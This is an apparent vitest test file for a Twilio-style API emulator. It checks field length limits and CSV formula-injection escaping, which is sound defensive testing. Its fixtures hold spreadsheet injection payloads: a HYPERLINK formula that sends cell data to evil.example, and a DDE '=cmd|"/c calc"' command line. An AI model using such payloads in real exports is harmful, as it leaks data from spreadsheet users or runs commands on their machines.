/**
 * Free text a client sets and others read back. Over Twilio's limits it is refused with a 400
 * naming the field: a participant Label (128 characters, not a CallSid, no '/': Twilio error
 * 16024), a conference name (128, error 13237), the FriendlyName of accounts, keys and numbers
 * (64), a URL (4,000); list filters longer than any stored value are refused the same way. In
 * the CSV representation a text cell that a spreadsheet would run as a formula (=, +, -, @, tab,
 * CR first) is neutralised as OWASP advises: a leading quote, and the cell in double quotes.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newSid } from '../../src/domain/sids.js';
import { accountsPath, conferencesPath, participantsPath } from '../helpers/paths.js';
import { STORE_KINDS } from '../helpers/stores.js';
import { startTestApp, type HttpResult, type TestApp } from '../helpers/test-app.js';

function expectRefused(res: HttpResult, field: string, code = 20001): void {
  expect(res.status, res.body).toBe(400);
  const body = res.json();
  expect(body).toMatchObject({ status: 400, code, more_info: `https://www.twilio.com/docs/errors/${code}` });
  expect(body.message).toContain(field);
}

/** The CSV rows, split on CRLF outside quotes (cells here hold no line breaks once quoted). */
function csvRows(body: string): string[] {
  return body.split('\r\n').filter((line) => line !== '');
}

describe.each(STORE_KINDS)('untrusted text on %s', (kind) => {
  let t: TestApp;
  let ac: string;

  beforeAll(async () => {
    t = await startTestApp(kind);
    ac = t.accountSid;
  });
  afterAll(async () => t?.close());

  describe('length limits', () => {
    const dial = (label: string, conference = 'limits room'): Promise<HttpResult> =>
      t.request('POST', `${participantsPath(ac, encodeURIComponent(conference))}.json`, { form: { From: '+15005550006', To: 'sim:limits', Label: label } });

    it('a Label of more than 128 characters, a CallSid or one with a slash is 400 / 16024; 128 characters are fine', async () => {
      expectRefused(await dial('L'.repeat(129)), 'Label', 16024);
      expectRefused(await dial(newSid('CA')), 'Label', 16024);
      expectRefused(await dial('team/lead'), 'Label', 16024);
      const xml = await t.request('POST', participantsPath(ac, 'limits%20room'), { form: { From: '+15005550006', To: 'sim:limits', Label: 'x'.repeat(129) } });
      expect(xml.status).toBe(400);
      expect(xml.body).toContain('<Code>16024</Code>');
      const created = await dial('L'.repeat(128));
      expect(created.status, created.body).toBe(201);
      expect(created.json().label).toBe('L'.repeat(128));
    });

    it('a conference name of more than 128 characters is 400 naming ConferenceSid', async () => {
      expectRefused(await dial('ok', 'n'.repeat(129)), 'ConferenceSid');
    });

    it('FriendlyName of more than 64 characters on accounts, keys and numbers is 400 naming it; list filters too', async () => {
      const long = 'f'.repeat(65);
      expectRefused(await t.request('POST', `${accountsPath}.json`, { form: { FriendlyName: long } }), 'FriendlyName');
      expectRefused(await t.request('POST', `${accountsPath}/${ac}.json`, { form: { FriendlyName: long } }), 'FriendlyName');
      expectRefused(await t.request('POST', `${accountsPath}/${ac}/Keys.json`, { form: { FriendlyName: long } }), 'FriendlyName');
      expectRefused(await t.request('POST', `${accountsPath}/${ac}/IncomingPhoneNumbers.json`, { form: { PhoneNumber: '+15005550199', FriendlyName: long } }), 'FriendlyName');
      expectRefused(await t.request('GET', `${accountsPath}/${ac}/IncomingPhoneNumbers.json?FriendlyName=${long}`), 'FriendlyName');
      expectRefused(await t.request('GET', `${conferencesPath(ac)}.json?FriendlyName=${'c'.repeat(129)}`), 'FriendlyName');
      expect((await t.request('GET', `${conferencesPath(ac)}.json?FriendlyName=${'c'.repeat(128)}`)).status).toBe(200);
      expect((await t.request('POST', `${accountsPath}.json`, { form: { FriendlyName: 'f'.repeat(64) } })).status).toBe(201);
    });

    it('a URL of more than 4,000 characters is 400 naming the field', async () => {
      const url = `https://example.com/${'u'.repeat(4000)}`;
      expectRefused(await t.request('POST', `/2010-04-01/Accounts/${ac}/Calls.json`, { form: { From: '+15005550006', To: 'sim:u', Twiml: '<Response/>', StatusCallback: url } }), 'StatusCallback');
      expectRefused(await dial('url', 'url room').then(() => t.request('POST', `${participantsPath(ac, 'url%20room')}.json`, { form: { From: '+15005550006', To: 'sim:u2', WaitUrl: url } })), 'WaitUrl');
    });
  });

  describe('CSV cells a spreadsheet would run', () => {
    it('=, +, -, @, tab and CR at the start of a text cell get a leading quote and double quotes', async () => {
      const names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rReturned', 'plain, "quoted"'];
      const sids: string[] = [];
      for (const name of names) {
        const res = await t.request('POST', `${accountsPath}.json`, { form: { FriendlyName: name } });
        expect(res.status, res.body).toBe(201);
        sids.push(res.json().sid as string);
      }
      const csv = await t.request('GET', `${accountsPath}.csv?PageSize=1000`);
      expect(csv.status).toBe(200);
      const rows = csvRows(csv.body);
      const rowOf = (sid: string): string => rows.find((row) => row.includes(sid))!;
      expect(rowOf(sids[0]!)).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
      expect(rowOf(sids[1]!)).toContain(`"'+1+cmd"`);
      expect(rowOf(sids[2]!)).toContain(`"'-2+3"`);
      expect(rowOf(sids[3]!)).toContain(`"'@SUM(A1:A9)"`);
      expect(rowOf(sids[4]!)).toContain(`"'\tTabbed"`);
      expect(csv.body).toContain(`"'\rReturned"`);
      expect(rowOf(sids[6]!)).toContain('"plain, ""quoted"""');
      // No cell of the document starts with a formula character unneutralised.
      for (const row of rows) for (const cell of row.split(',')) expect(cell).not.toMatch(/^[=+\-@]/);
      // JSON and XML carry the value as it was given.
      expect((await t.request('GET', `${accountsPath}/${sids[0]!}.json`)).json().friendly_name).toBe(names[0]);
    });

    it('a label and a phone number are neutralised too', async () => {
      const joined = await t.join('csv room', { label: '=cmd|"/c calc"!A1' });
      await t.join('csv room');
      const participants = await t.request('GET', `${participantsPath(ac, joined.conference.sid)}.csv`);
      expect(participants.body).toContain(`"'=cmd|""/c calc""!A1"`);
      const number = await t.request('POST', `${accountsPath}/${ac}/IncomingPhoneNumbers.json`, { form: { PhoneNumber: '+15005550142' } });
      expect(number.status, number.body).toBe(201);
      const numbers = await t.request('GET', `${accountsPath}/${ac}/IncomingPhoneNumbers.csv`);
      expect(numbers.body).toContain(`"'+15005550142"`);
      expect(numbers.body).not.toMatch(/(^|,)\+15005550142/m);
    });
  });
});
